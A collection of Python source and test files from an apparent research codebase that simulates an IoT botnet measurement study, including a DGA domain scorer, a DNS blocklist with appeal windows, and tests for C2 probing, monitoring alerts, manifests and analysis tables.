    raise SystemExit(main())
