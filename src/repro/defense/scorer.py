"""In-line DGA scorer for DNS query names.

The defender side of the DGA scenario (ROADMAP item 3): a deterministic
character-distribution + dictionary-feature scorer that classifies a
query name as machine-generated or human-registered.  It runs in-line in
the resolver, so it must be cheap, dependency-free, and a pure function
of the name — any hidden state would break the serial == parallel
digest invariant that shards rely on.

Features (weights tuned against the closed world's two name registers):

* longest consonant run — DGA labels here are drawn from vowel-free
  alphabets, so the run spans the whole label; wordlist names break the
  run every syllable;
* label length — generated labels are >= 10 chars, vanity C2 names are
  short compounds;
* vowel ratio vs. the ~38% of natural English text;
* greedy dictionary coverage — how much of the label is explained by
  known words (the generator's vanity wordlist plus common net-speak),
  subtracted from the score.
"""

from __future__ import annotations

_VOWELS = frozenset("aeiou")

#: Known human-register words: the world generator's vanity C2 wordlist
#: (see ``world/generator.py:_make_domain``) plus generic DNS vocabulary.
_DEFAULT_WORDS = frozenset(
    {
        "cnc", "net", "boat", "scan", "sora", "owari", "kill", "dark",
        "pain", "okiru",
        "update", "cdn", "cloud", "mail", "web", "host", "data", "api",
        "static", "files", "time", "pool", "dns", "gate", "proxy", "node",
    }
)


def _longest_consonant_run(label: str) -> int:
    run = best = 0
    for char in label:
        if char.isalpha() and char not in _VOWELS:
            run += 1
            best = max(best, run)
        else:
            run = 0
    return best


class DomainScorer:
    """Deterministic DGA likelihood score in [0, 1] for a domain name."""

    def __init__(self, threshold: float = 0.5,
                 words: frozenset[str] = _DEFAULT_WORDS) -> None:
        self.threshold = threshold
        self._words = words
        self._max_word = max((len(w) for w in words), default=0)

    def _dictionary_coverage(self, label: str) -> float:
        """Fraction of the label explained by known words (greedy)."""
        covered = 0
        position = 0
        while position < len(label):
            hit = 0
            for size in range(min(self._max_word, len(label) - position), 2, -1):
                if label[position : position + size] in self._words:
                    hit = size
                    break
            if hit:
                covered += hit
                position += hit
            else:
                position += 1
        return covered / len(label)

    def score(self, name: str) -> float:
        """DGA likelihood of ``name``'s first (second-level) label."""
        label = name.lower().rstrip(".").split(".", 1)[0]
        letters = [c for c in label if c.isalpha()]
        if not letters:
            return 0.0
        vowel_ratio = sum(c in _VOWELS for c in letters) / len(letters)
        char_f = max(0.0, 1.0 - vowel_ratio / 0.38)
        run_f = min(1.0, max(0, _longest_consonant_run(label) - 3) / 4.0)
        length_f = min(1.0, max(0, len(label) - 6) / 10.0)
        dict_f = self._dictionary_coverage(label)
        raw = 0.4 * run_f + 0.25 * length_f + 0.2 * char_f - 0.5 * dict_f
        return min(1.0, max(0.0, raw))

    def is_dga(self, name: str) -> bool:
        return self.score(name) >= self.threshold
