"""Defender co-simulation: in-line DGA scoring + a DNS blocklist loop.

See DESIGN.md §8.  Opt-in via ``StudyScale.dga`` / the ``--dga`` CLI
flag; with it off nothing here is ever constructed.
"""

from .blocklist import (
    APPEAL_SUCCESS_RATE,
    APPEAL_WINDOW,
    DETECTION_DELAY_MAX,
    DETECTION_DELAY_MIN,
    BlockDecision,
    DnsDefense,
)
from .scorer import DomainScorer

__all__ = [
    "APPEAL_SUCCESS_RATE",
    "APPEAL_WINDOW",
    "DETECTION_DELAY_MAX",
    "DETECTION_DELAY_MIN",
    "BlockDecision",
    "DnsDefense",
    "DomainScorer",
]
