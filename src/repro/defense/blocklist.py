"""Registration-driven DNS blocklist with override/appeal windows.

The defender watches the registrar feed (``Resolver.register``), scores
every newly registered name with :class:`~repro.defense.scorer.DomainScorer`,
and blocklists DGA-looking names after a per-name detection delay.  A
small fraction of blocks is successfully appealed (the override window),
modelling takedown-review false starts.

Decisions are pure functions of ``(defense seed, name, first-registration
time)`` — never of query history.  That invariant is load-bearing: in the
sharded study each worker sees only its shard's queries, but every worker
regenerates the same world and therefore the same registration stream, so
the blocklist state is identical everywhere and serial == parallel holds.
"""

from __future__ import annotations

from dataclasses import dataclass

from ..determinism import stable_unit
from .scorer import DomainScorer

#: blocklist ingestion lag after a DGA-scored registration (seconds)
DETECTION_DELAY_MIN = 2 * 3600.0
DETECTION_DELAY_MAX = 20 * 3600.0
#: a successful appeal lifts the block this long after it started
APPEAL_WINDOW = 1.5 * 86400.0
#: fraction of blocks overturned on appeal
APPEAL_SUCCESS_RATE = 0.12


@dataclass(frozen=True)
class BlockDecision:
    """Outcome of scoring one registered name."""

    registered_at: float
    #: when the block takes effect; None = scored benign, never blocked
    blocked_from: float | None = None
    #: when a successful appeal lifts the block; None = appeal denied
    overridden_from: float | None = None


class DnsDefense:
    """Scorer + blocklist pair wired into the resolver."""

    def __init__(self, seed: int, scorer: DomainScorer | None = None) -> None:
        self.seed = seed
        self.scorer = scorer or DomainScorer()
        self._decisions: dict[str, BlockDecision] = {}

    def is_dga(self, name: str) -> bool:
        return self.scorer.is_dga(name)

    def observe_registration(self, name: str, since: float) -> None:
        """Score a newly registered name; earliest registration wins."""
        key = name.lower()
        existing = self._decisions.get(key)
        if existing is not None and existing.registered_at <= since:
            return
        if not self.scorer.is_dga(key):
            self._decisions[key] = BlockDecision(registered_at=since)
            return
        delay = DETECTION_DELAY_MIN + stable_unit(
            "dns-detect", self.seed, key
        ) * (DETECTION_DELAY_MAX - DETECTION_DELAY_MIN)
        blocked_from = since + delay
        overridden_from = None
        if stable_unit("dns-appeal", self.seed, key) < APPEAL_SUCCESS_RATE:
            overridden_from = blocked_from + APPEAL_WINDOW
        self._decisions[key] = BlockDecision(since, blocked_from, overridden_from)

    def blocked(self, name: str, now: float) -> bool:
        """Is ``name`` on the blocklist at simulation time ``now``?"""
        decision = self._decisions.get(name.lower())
        if decision is None or decision.blocked_from is None:
            return False
        if now < decision.blocked_from:
            return False
        return decision.overridden_from is None or now < decision.overridden_from

    def decision_for(self, name: str) -> BlockDecision | None:
        return self._decisions.get(name.lower())
