"""The run flight recorder: manifest building, persistence, emission."""

import json

from repro.core.cache import StudyCache
from repro.core.study import run_study
from repro.obs import (
    build_manifest,
    create_telemetry,
    read_manifest,
    write_manifest,
)
from repro.obs.manifest import MANIFEST_NAME, MANIFEST_VERSION
from repro.world import SMOKE_SCALE, generate_world

SEED = 11


def test_build_manifest_defaults_and_round_trip(tmp_path):
    manifest = build_manifest(study={"seed": 1}, run={"wall_seconds": 0.5})
    assert manifest["manifest_version"] == MANIFEST_VERSION
    assert manifest["cache"] == {"enabled": False}
    assert manifest["shards"] == [] and manifest["quarantined"] == []
    assert "extra" not in manifest
    path = write_manifest(str(tmp_path), manifest)
    assert path.endswith(MANIFEST_NAME)
    assert read_manifest(str(tmp_path)) == manifest
    assert read_manifest(path) == manifest  # direct path also accepted


def test_run_study_attaches_manifest_serial_and_parallel():
    for workers in (None, 2):
        telemetry = create_telemetry()
        world = generate_world(seed=SEED, scale=SMOKE_SCALE)
        run_study(world, telemetry=telemetry, workers=workers)
        manifest = telemetry.manifest
        assert manifest is not None
        assert manifest["study"]["seed"] == SEED
        assert manifest["study"]["workers"] == (workers or 0)
        assert len(manifest["study"]["code_fingerprint"]) == 64
        assert len(manifest["study"]["study_fingerprint"]) == 64
        assert manifest["run"]["cached"] is False
        assert manifest["run"]["wall_seconds"] > 0
        assert manifest["phases"]["study.pipeline"]["count"] == 1
        assert manifest["datasets"]["D-Samples"] > 0
        assert manifest["failed_shards"] == []
        if workers:
            shards = manifest["shards"]
            assert [s["shard"] for s in shards] == list(range(workers))
            assert all(s["wall_seconds"] > 0 for s in shards)
        else:
            assert manifest["shards"] == []


def test_manifest_emitted_for_cached_runs_too(tmp_path):
    cache_dir = str(tmp_path / "cache")

    def one_run():
        telemetry = create_telemetry()
        world = generate_world(seed=SEED, scale=SMOKE_SCALE)
        run_study(world, telemetry=telemetry, cache=cache_dir)
        return telemetry

    cold = one_run()
    assert cold.manifest["run"]["cached"] is False
    assert cold.manifest["cache"] == {
        "enabled": True, "hit": False, "hits": 0, "misses": 1, "rejected": 0}
    assert cold.metrics.value("study_cache_lookups_total", result="miss") == 1

    warm = one_run()
    assert warm.manifest["run"]["cached"] is True
    assert warm.manifest["cache"]["hit"] is True
    assert warm.manifest["cache"]["hits"] == 1
    assert warm.manifest["datasets"] == cold.manifest["datasets"]
    assert warm.metrics.value("study_cache_lookups_total", result="hit") == 1


def test_cache_lookup_counter_covers_rejected_entries(tmp_path):
    from repro.obs import MetricsRegistry

    cache = StudyCache(str(tmp_path))
    metrics = MetricsRegistry()
    cache.bind_metrics(metrics)
    assert cache.get("0" * 64) is None
    path = cache.path_for("1" * 64)
    with open(path, "wb") as fh:
        fh.write(b"corrupt entry, wrong magic and all")
    assert cache.get("1" * 64) is None
    assert metrics.value("study_cache_lookups_total", result="miss") == 1
    assert metrics.value("study_cache_lookups_total", result="rejected") == 1
    assert metrics.value("study_cache_lookups_total", result="hit") == 0
    assert (cache.hits, cache.misses, cache.rejected) == (0, 2, 1)


def test_manifest_records_quarantined_samples():
    from repro.core.pipeline import PipelineConfig
    from repro.netsim.faults import FAULT_PLANS

    telemetry = create_telemetry()
    world = generate_world(seed=SEED, scale=SMOKE_SCALE)
    config = PipelineConfig(faults=FAULT_PLANS["heavy"])
    _malnet, _campaign, datasets = run_study(world, config=config,
                                             telemetry=telemetry)
    expected = [p for p in datasets.profiles if p.quarantined]
    recorded = telemetry.manifest["quarantined"]
    assert [q["sha256"] for q in recorded] == [p.sha256 for p in expected]
    assert all(q["reason"] for q in recorded) or not recorded
    assert telemetry.manifest["study"]["faults"]["name"] == "heavy"


def test_write_persists_manifest_with_other_artifacts(tmp_path):
    telemetry = create_telemetry()
    world = generate_world(seed=SEED, scale=SMOKE_SCALE)
    run_study(world, telemetry=telemetry, workers=2)
    paths = telemetry.write(str(tmp_path))
    assert sorted(paths) == ["events", "manifest", "prometheus",
                             "snapshot", "trace"]
    on_disk = json.loads((tmp_path / "manifest.json").read_text())
    assert on_disk == json.loads(json.dumps(telemetry.manifest, default=str))
