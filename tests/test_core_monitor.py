"""Tests for the continuous-monitoring service layer."""

import pytest

from repro.core.monitor import Alert, AlertKind, ContinuousMonitor
from repro.world import StudyScale, generate_world
from repro.world.calibration import ACTIVE_WEEKS


@pytest.fixture(scope="module")
def monitor():
    scale = StudyScale(sample_fraction=0.06, probe_days=2,
                       observe_duration=1200.0, scan_budget=80)
    world = generate_world(seed=11, scale=scale)
    service = ContinuousMonitor(world)
    service.run(days=ACTIVE_WEEKS * 7 + 60)
    return world, service


class TestAlerts:
    def test_new_c2_alert_per_distinct_endpoint(self, monitor):
        _world, service = monitor
        counts = service.alert_counts()
        assert counts[AlertKind.NEW_C2] == len(service.datasets.d_c2s)

    def test_attack_alerts_match_ddos_dataset(self, monitor):
        _world, service = monitor
        counts = service.alert_counts()
        assert counts.get(AlertKind.ATTACK_IN_PROGRESS, 0) >= len(
            service.datasets.d_ddos
        ) * 0.9

    def test_exploit_alert_once_per_vulnerability(self, monitor):
        _world, service = monitor
        exploit_alerts = [
            a for d in service.digests for a in d.alerts
            if a.kind == AlertKind.NEW_EXPLOIT
        ]
        subjects = [a.subject for a in exploit_alerts]
        assert len(subjects) == len(set(subjects))
        observed = {r.vuln_key for r in service.datasets.d_exploits}
        assert set(subjects) == observed

    def test_ti_blind_spot_alerts_only_for_unflagged_live(self, monitor):
        _world, service = monitor
        blind = [
            a for d in service.digests for a in d.alerts
            if a.kind == AlertKind.TI_BLIND_SPOT
        ]
        for alert in blind:
            record = service.datasets.d_c2s[alert.subject]
            assert record.live_observations >= 1

    def test_alert_rendering(self):
        alert = Alert(AlertKind.NEW_C2, 5, "1.2.3.4", "mirai C2")
        text = alert.render()
        assert "day   5" in text and "new-c2" in text and "1.2.3.4" in text


class TestRuleDelta:
    def test_rules_ship_incrementally_without_duplicates(self, monitor):
        _world, service = monitor
        shipped = [
            (r.technology, r.text)
            for d in service.digests for r in d.new_rules
        ]
        assert len(shipped) == len(set(shipped))
        assert shipped  # something shipped

    def test_final_delta_equals_full_compilation(self, monitor):
        from repro.core.firewall import compile_rules

        _world, service = monitor
        shipped = {
            (r.technology, r.text)
            for d in service.digests for r in d.new_rules
        }
        full = {
            (r.technology, r.text)
            for r in compile_rules(service.datasets).rules
        }
        assert shipped == full

    def test_rules_ship_no_later_than_discovery_day(self, monitor):
        """Just-in-time: a verified C2's block rule ships the day its
        binary is analyzed — or even earlier, when the address already
        surfaced as another campaign's downloader."""
        _world, service = monitor
        on_time = 0
        for endpoint, record in service.datasets.d_c2s.items():
            if not record.verified:
                continue
            shipped_day = service.time_to_first_rule(endpoint)
            assert shipped_day is not None
            assert shipped_day <= record.first_day
            if shipped_day == record.first_day:
                on_time += 1
        assert on_time > 0  # the common case is same-day shipping


class TestEquivalence:
    def test_monitor_matches_batch_pipeline(self, monitor):
        """Streaming day-by-day produces the same datasets as batch run."""
        from repro.core.pipeline import MalNet
        from repro.world import StudyScale, generate_world
        from repro.world.calibration import ACTIVE_WEEKS

        scale = StudyScale(sample_fraction=0.06, probe_days=2,
                           observe_duration=1200.0, scan_budget=80)
        world = generate_world(seed=11, scale=scale)
        batch = MalNet(world)
        batch.run()
        _w, service = monitor
        assert ({p.sha256 for p in batch.datasets.profiles}
                == {p.sha256 for p in service.datasets.profiles})
        assert set(batch.datasets.d_c2s) == set(service.datasets.d_c2s)
