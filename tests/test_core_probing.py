"""Tests for the D-PC2 probing campaign."""

from repro.world.calibration import PROBED_C2_COUNT


class TestDiscovery:
    def test_all_planted_c2s_discovered(self, mid_study):
        world, _malnet, campaign, _ds = mid_study
        planted = {(d.address, d.port) for d in world.truth.probed_deployments}
        assert campaign.discovered == planted
        assert len(campaign.discovered) == PROBED_C2_COUNT

    def test_decoys_not_discovered(self, mid_study):
        world, _malnet, campaign, _ds = mid_study
        decoys = {h.address for h in world.internet.hosts.values()
                  if h.name == "decoy-web"}
        assert not {addr for addr, _p in campaign.discovered} & decoys

    def test_observations_merged_into_datasets(self, mid_study):
        _w, _malnet, campaign, datasets = mid_study
        assert datasets.d_pc2 == campaign.observations
        assert datasets.probed_c2_count() == PROBED_C2_COUNT


class TestResponseMatrix:
    def test_matrix_shape(self, mid_study):
        _w, _m, campaign, _ds = mid_study
        matrix = campaign.response_matrix()
        assert len(matrix) == PROBED_C2_COUNT
        for series in matrix.values():
            assert len(series) == campaign.total_slots

    def test_responses_are_spotty(self, mid_study):
        """No server answers everything; every server answers something."""
        _w, _m, campaign, _ds = mid_study
        for series in campaign.response_matrix().values():
            assert any(series)
            assert not all(series)

    def test_no_full_response_day(self, mid_study):
        """Paper: servers never respond to all six probes in one day."""
        _w, _m, campaign, _ds = mid_study
        assert not campaign.any_full_day_response()

    def test_repeat_rate_near_nine_percent(self, mid_study):
        """Paper: 91% of the time no second response 4 hours later."""
        _w, _m, campaign, _ds = mid_study
        rate = campaign.repeat_response_rate()
        assert 0.0 <= rate < 0.25

    def test_observation_slots_increasing(self, mid_study):
        _w, _m, campaign, _ds = mid_study
        per_c2: dict = {}
        for obs in campaign.observations:
            key = (obs.c2_address, obs.c2_port)
            slots = per_c2.setdefault(key, [])
            if slots:
                assert obs.slot >= slots[-1]
            slots.append(obs.slot)

    def test_six_probes_per_day(self, mid_study):
        _w, _m, campaign, _ds = mid_study
        assert campaign.slots_per_day == 6
        assert campaign.total_slots == campaign.days * 6

    def test_repeat_rate_zero_when_no_data(self, smoke_world):
        from repro.core.probing import ProbingCampaign

        campaign = ProbingCampaign(
            internet=smoke_world.internet, sandbox=None, subnets=[],
            sample_binaries=[], start=0.0, days=0,
        )
        assert campaign.repeat_response_rate() == 0.0
