"""Unit and property tests for repro.netsim.addresses."""

import random

import pytest
from hypothesis import given, strategies as st

from repro.netsim.addresses import (
    AddressAllocator,
    AddressError,
    Subnet,
    checksum16,
    ephemeral_port,
    int_to_ip,
    ip_to_int,
    is_reserved,
    prefix_mask,
)


class TestIpConversion:
    def test_roundtrip_known(self):
        assert ip_to_int("1.2.3.4") == 0x01020304
        assert int_to_ip(0x01020304) == "1.2.3.4"

    def test_extremes(self):
        assert ip_to_int("0.0.0.0") == 0
        assert ip_to_int("255.255.255.255") == 0xFFFFFFFF

    @given(st.integers(min_value=0, max_value=0xFFFFFFFF))
    def test_roundtrip_property(self, value):
        assert ip_to_int(int_to_ip(value)) == value

    @pytest.mark.parametrize(
        "bad", ["1.2.3", "1.2.3.4.5", "256.1.1.1", "a.b.c.d", "", "1..2.3"]
    )
    def test_rejects_malformed(self, bad):
        with pytest.raises(AddressError):
            ip_to_int(bad)

    def test_int_out_of_range(self):
        with pytest.raises(AddressError):
            int_to_ip(-1)
        with pytest.raises(AddressError):
            int_to_ip(2**32)


class TestReserved:
    @pytest.mark.parametrize(
        "addr",
        ["10.0.0.1", "127.0.0.1", "192.168.1.1", "172.16.0.5", "224.0.0.1",
         "169.254.1.1", "100.64.0.1", "0.1.2.3", "240.0.0.1"],
    )
    def test_reserved_blocks(self, addr):
        assert is_reserved(ip_to_int(addr))

    @pytest.mark.parametrize("addr", ["8.8.8.8", "1.1.1.1", "93.184.216.34"])
    def test_public(self, addr):
        assert not is_reserved(ip_to_int(addr))


class TestSubnet:
    def test_parse_and_str(self):
        net = Subnet.parse("192.0.2.0/24")
        assert str(net) == "192.0.2.0/24"
        assert net.size == 256

    def test_contains(self):
        net = Subnet.parse("192.0.2.0/24")
        assert ip_to_int("192.0.2.17") in net
        assert ip_to_int("192.0.3.17") not in net

    def test_host_bits_rejected(self):
        with pytest.raises(AddressError):
            Subnet(ip_to_int("192.0.2.1"), 24)

    def test_hosts_excludes_network_and_broadcast(self):
        net = Subnet.parse("192.0.2.0/29")
        hosts = list(net.hosts())
        assert len(hosts) == 6
        assert net.network not in hosts
        assert net.broadcast not in hosts

    def test_slash32(self):
        net = Subnet.parse("192.0.2.7/32")
        assert list(net.hosts()) == [ip_to_int("192.0.2.7")]

    def test_random_host_in_subnet(self):
        rng = random.Random(1)
        net = Subnet.parse("198.51.100.0/24")
        for _ in range(50):
            assert net.random_host(rng) in net

    @given(st.integers(min_value=0, max_value=32))
    def test_prefix_mask_bit_count(self, prefix):
        assert bin(prefix_mask(prefix)).count("1") == prefix

    def test_bad_prefix(self):
        with pytest.raises(AddressError):
            prefix_mask(33)
        with pytest.raises(AddressError):
            Subnet.parse("1.2.3.0/abc")
        with pytest.raises(AddressError):
            Subnet.parse("1.2.3.0")


class TestAllocator:
    def test_unique_and_public(self):
        alloc = AddressAllocator(random.Random(7))
        seen = {alloc.allocate() for _ in range(500)}
        assert len(seen) == 500
        assert not any(is_reserved(a) for a in seen)

    def test_subnet_constrained(self):
        alloc = AddressAllocator(random.Random(7))
        net = Subnet.parse("203.0.113.0/24")
        for _ in range(100):
            assert alloc.allocate(net) in net

    def test_exhaustion(self):
        alloc = AddressAllocator(random.Random(7))
        net = Subnet.parse("203.0.113.0/30")  # 2 usable hosts
        alloc.allocate(net)
        alloc.allocate(net)
        with pytest.raises(AddressError):
            alloc.allocate(net)

    def test_reserve(self):
        alloc = AddressAllocator(random.Random(7))
        net = Subnet.parse("203.0.113.0/30")
        for host in net.hosts():
            alloc.reserve(host)
        with pytest.raises(AddressError):
            alloc.allocate(net)


class TestChecksumAndPorts:
    def test_checksum_known_vector(self):
        # classic RFC 1071 example
        data = bytes.fromhex("0001f203f4f5f6f7")
        assert checksum16(data) == 0x220D

    def test_checksum_odd_length(self):
        assert checksum16(b"\xff") == checksum16(b"\xff\x00")

    @given(st.binary(min_size=0, max_size=64).map(lambda b: b[: len(b) & ~1]))
    def test_checksum_self_verifying(self, data):
        # Holds for even-length data only: real headers embed the checksum
        # at a 16-bit-aligned offset, never appended after odd payloads.
        import struct

        check = checksum16(data)
        assert checksum16(data + struct.pack("!H", check)) == 0

    def test_ephemeral_port_range(self):
        rng = random.Random(3)
        for _ in range(200):
            assert 49152 <= ephemeral_port(rng) <= 65535
