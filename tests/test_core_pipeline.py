"""Integration tests for the MalNet pipeline over a generated world."""

import pytest

from repro.botnet.families import ATTACK_FAMILIES
from repro.core.datasets import C2Record


class TestCollection:
    def test_all_generated_samples_collected(self, smoke_study):
        world, _malnet, _campaign, datasets = smoke_study
        generated = {s.sample.sha256 for s in world.truth.all_samples}
        collected = {p.sha256 for p in datasets.profiles}
        assert collected == generated

    def test_no_duplicates(self, smoke_study):
        _w, _m, _c, datasets = smoke_study
        hashes = [p.sha256 for p in datasets.profiles]
        assert len(hashes) == len(set(hashes))

    def test_sources_recorded(self, smoke_study):
        _w, _m, _c, datasets = smoke_study
        sources = {p.source for p in datasets.profiles}
        assert sources <= {"virustotal", "malwarebazaar", "both"}
        assert "virustotal" in sources or "both" in sources

    def test_family_labels_match_ground_truth(self, smoke_study):
        world, _m, _c, datasets = smoke_study
        truth = {s.sample.sha256: s.sample.family
                 for s in world.truth.all_samples}
        for profile in datasets.profiles:
            assert profile.family_label == truth[profile.sha256]
            assert profile.label_source == "yara"


class TestActivationAndC2:
    def test_activation_rate_near_90(self, mid_study):
        _w, _m, _c, datasets = mid_study
        rate = sum(p.activated for p in datasets.profiles) / len(datasets.profiles)
        assert 0.82 < rate < 0.97

    def test_p2p_samples_flagged(self, mid_study):
        world, _m, _c, datasets = mid_study
        truth_p2p = {s.sample.sha256 for s in world.truth.all_samples
                     if s.sample.family in ("mozi", "hajime")}
        for profile in datasets.profiles:
            if profile.sha256 in truth_p2p and profile.activated:
                assert profile.is_p2p
                assert not profile.has_c2

    def test_detected_c2_matches_ground_truth(self, smoke_study):
        world, _m, _c, datasets = smoke_study
        truth = {s.sample.sha256: s.c2 for s in world.truth.all_samples}
        for profile in datasets.profiles:
            if not profile.has_c2:
                continue
            deployment = truth[profile.sha256]
            assert deployment is not None
            assert profile.c2_endpoint == deployment.endpoint
            assert profile.c2_port == deployment.port

    def test_c2_records_accumulate_samples(self, smoke_study):
        _w, _m, _c, datasets = smoke_study
        for record in datasets.d_c2s.values():
            assert record.distinct_samples >= 1
            assert record.first_day <= record.last_day
            assert record.first_seen <= record.last_seen

    def test_protocol_verification_for_known_dialects(self, smoke_study):
        _w, _m, _c, datasets = smoke_study
        verified = [r for r in datasets.d_c2s.values() if r.protocol_verified]
        assert len(verified) >= 0.9 * len(datasets.d_c2s)

    def test_observed_lifespan_metric(self):
        record = C2Record(endpoint="1.2.3.4", port=23, is_dns=False)
        record.first_seen = 1000.0
        record.last_seen = 1000.0
        assert record.observed_lifespan_days == 1
        record.last_seen = 1000.0 + 3 * 86400.0
        assert record.observed_lifespan_days == 3


class TestLiveness:
    def test_some_c2s_live_and_some_dead(self, mid_study):
        _w, _m, _c, datasets = mid_study
        with_c2 = [p for p in datasets.profiles if p.has_c2]
        live = sum(p.c2_live_on_day0 for p in with_c2)
        assert 0 < live < len(with_c2)

    def test_dead_rate_in_paper_band(self, mid_study):
        """Section 3.2: ~60% of samples have a dead C2 on day 0."""
        from repro.core.c2_analysis import dead_on_arrival_rate

        _w, _m, _c, datasets = mid_study
        assert 0.40 < dead_on_arrival_rate(datasets) < 0.75

    def test_liveness_consistent_with_world(self, smoke_study):
        """A sample marked live must reference a C2 that engaged probes."""
        world, _m, _c, datasets = smoke_study
        for profile in datasets.profiles:
            if profile.c2_live_on_day0:
                deployment = world.truth.deployment_for(profile.c2_endpoint)
                assert deployment is not None


class TestExploits:
    def test_exploit_records_classified(self, mid_study):
        _w, _m, _c, datasets = mid_study
        assert datasets.d_exploits
        from repro.botnet.exploits import BY_KEY

        for record in datasets.d_exploits:
            assert record.vuln_key in BY_KEY
            assert record.loader  # armed samples always name a loader

    def test_exploits_match_ground_truth_arsenal(self, smoke_study):
        world, _m, _c, datasets = smoke_study
        from repro.botnet.exploits import KEY_TO_INDEX

        arsenal = {s.sample.sha256: set(s.sample.config.exploit_ids)
                   for s in world.truth.all_samples}
        for record in datasets.d_exploits:
            assert KEY_TO_INDEX[record.vuln_key] in arsenal[record.sha256]


class TestDdos:
    def test_commands_observed(self, mid_study):
        _w, _m, _c, datasets = mid_study
        assert len(datasets.d_ddos) >= 25  # 42 planned, most observed

    def test_observed_commands_match_plan(self, mid_study):
        world, _m, _c, datasets = mid_study
        planned = {
            (a.c2.endpoint, a.command.method, a.command.target_ip)
            for a in world.truth.attacks
        }
        for record in datasets.d_ddos:
            if record.via_heuristic:
                continue
            assert (record.c2_endpoint, record.command.method,
                    record.command.target_ip) in planned

    def test_attack_families_only(self, mid_study):
        _w, _m, _c, datasets = mid_study
        for record in datasets.d_ddos:
            assert record.family in ATTACK_FAMILIES + ("heuristic",)

    def test_commands_verified_by_flooding(self, mid_study):
        _w, _m, _c, datasets = mid_study
        verified = sum(1 for r in datasets.d_ddos if r.verified)
        assert verified >= 0.8 * len(datasets.d_ddos)

    def test_attack_c2s_marked(self, mid_study):
        _w, _m, _c, datasets = mid_study
        for record in datasets.d_ddos:
            assert datasets.d_c2s[record.c2_endpoint].issued_attack


class TestTiQueries:
    def test_recheck_flags_more_than_day0(self, mid_study):
        _w, _m, _c, datasets = mid_study
        day0 = sum(r.vt_malicious_day0 for r in datasets.d_c2s.values())
        later = sum(r.vt_malicious_recheck for r in datasets.d_c2s.values())
        assert later > day0

    def test_miss_rates_ordering(self, mid_study):
        """DNS-based C2s are missed more than IP-based (Table 3)."""
        from repro.core.ti_analysis import table3

        _w, _m, _c, datasets = mid_study
        rates = table3(datasets)
        if rates["DNS-based"].count >= 5:
            assert rates["DNS-based"].same_day > rates["IP-based"].same_day

    def test_summary_has_all_five_datasets(self, smoke_study):
        _w, _m, _c, datasets = smoke_study
        summary = datasets.summary()
        assert set(summary) == {"D-Samples", "D-C2s", "D-PC2", "D-Exploits",
                                "D-DDOS"}
        assert all(v >= 0 for v in summary.values())
