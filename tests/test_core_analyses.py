"""Tests for the analysis modules computing each table/figure."""

import pytest

from repro.core import c2_analysis, ddos_analysis, exploit_analysis, ti_analysis
from repro.core.report import (
    render_cdf,
    render_comparison,
    render_heatmap,
    render_histogram,
    render_probe_matrix,
    render_table,
)


class TestC2Analysis:
    def test_as_distribution_nonempty(self, mid_study):
        world, _m, _c, datasets = mid_study
        activities = c2_analysis.c2_as_distribution(datasets, world.asdb)
        assert activities
        counts = [a.c2_count for a in activities]
        assert counts == sorted(counts, reverse=True)

    def test_top10_share_band(self, mid_study):
        """Section 3.1: top-10 ASes host ~69.7% of C2s."""
        world, _m, _c, datasets = mid_study
        share = c2_analysis.top10_share(datasets, world.asdb)
        assert 0.55 < share < 0.85

    def test_table2_rows_are_hosting_providers(self, mid_study):
        world, _m, _c, datasets = mid_study
        rows = c2_analysis.table2_rows(datasets, world.asdb)
        assert len(rows) == 10
        hosting = sum(1 for row in rows if row["hosting"] == "Yes")
        assert hosting >= 8

    def test_heatmap_shape(self, mid_study):
        world, _m, _c, datasets = mid_study
        matrix = c2_analysis.weekly_as_heatmap(datasets, world.asdb, weeks=31)
        assert len(matrix) == 10
        assert all(len(row) == 31 for row in matrix.values())
        assert sum(sum(row) for row in matrix.values()) > 0

    def test_lifetime_cdf_mostly_one_day(self, mid_study):
        """Figure 2: ~80% of C2 IPs have a one-day observed lifespan."""
        _w, _m, _c, datasets = mid_study
        points = c2_analysis.lifetime_cdf(datasets, dns=False)
        at_one = max(p.fraction for p in points if p.value <= 1)
        assert at_one > 0.6

    def test_samples_per_c2_cdf(self, mid_study):
        """Figure 5: ~40% single-binary C2s, a >10 tail exists."""
        _w, _m, _c, datasets = mid_study
        points = c2_analysis.samples_per_c2_cdf(datasets, dns=False)
        at_one = max(p.fraction for p in points if p.value <= 1)
        assert 0.2 < at_one < 0.6
        assert points[-1].value > 10

    def test_as_count_cdf_monotone(self, mid_study):
        world, _m, _c, datasets = mid_study
        points = c2_analysis.as_count_cdf(datasets, world.asdb)
        fractions = [p.fraction for p in points]
        assert fractions == sorted(fractions)
        assert fractions[-1] == pytest.approx(1.0)

    def test_attack_c2s_live_longer(self, mid_study):
        """Section 5: attack-launching C2s outlive the average C2."""
        _w, _m, _c, datasets = mid_study
        overall = c2_analysis.mean_lifespan_days(datasets)
        attackers = c2_analysis.mean_lifespan_days(datasets, attack_only=True)
        assert attackers > overall

    def test_downloader_colocation(self, mid_study):
        """Section 3.1: most downloaders are C2s; all on port 80."""
        _w, _m, _c, datasets = mid_study
        analysis = c2_analysis.downloader_colocation(datasets)
        assert analysis.distinct_downloaders > 0
        assert analysis.not_c2_count < analysis.distinct_downloaders
        assert analysis.ports == {80}


class TestTiAnalysis:
    def test_table3_shape(self, mid_study):
        _w, _m, _c, datasets = mid_study
        rates = ti_analysis.table3(datasets)
        assert set(rates) == {"All", "IP-based", "DNS-based"}
        for entry in rates.values():
            assert 0.0 <= entry.same_day <= 1.0
            assert entry.recheck <= entry.same_day + 1e-9 or entry.count < 5

    def test_recheck_improves(self, mid_study):
        _w, _m, _c, datasets = mid_study
        rates = ti_analysis.table3(datasets)
        assert rates["All"].recheck < rates["All"].same_day

    def test_vendor_cdf_has_low_coverage_mass(self, mid_study):
        world, _m, _c, datasets = mid_study
        share = ti_analysis.low_coverage_share(datasets, world.vt, at_most=2)
        assert 0.03 < share < 0.5

    def test_table7_top_vendor_band(self, mid_study):
        world, _m, _c, datasets = mid_study
        rows = ti_analysis.table7(datasets, world.vt)
        assert rows
        name, per_1000 = rows[0]
        assert per_1000 > 600  # paper's top vendors ~799/1000
        assert not name.startswith("SilentFeed")

    def test_active_vendor_count_band(self, mid_study):
        world, _m, _c, datasets = mid_study
        count = ti_analysis.active_vendor_count(datasets, world.vt)
        assert 20 <= count <= 44


class TestExploitAnalysis:
    def test_table4_counts_positive(self, mid_study):
        _w, _m, _c, datasets = mid_study
        rows = exploit_analysis.table4(datasets)
        assert rows
        assert all(row.sample_count > 0 for row in rows)

    def test_top4_are_old_popular_vulns(self, mid_study):
        _w, _m, _c, datasets = mid_study
        top = set(exploit_analysis.top4_vulnerabilities(datasets))
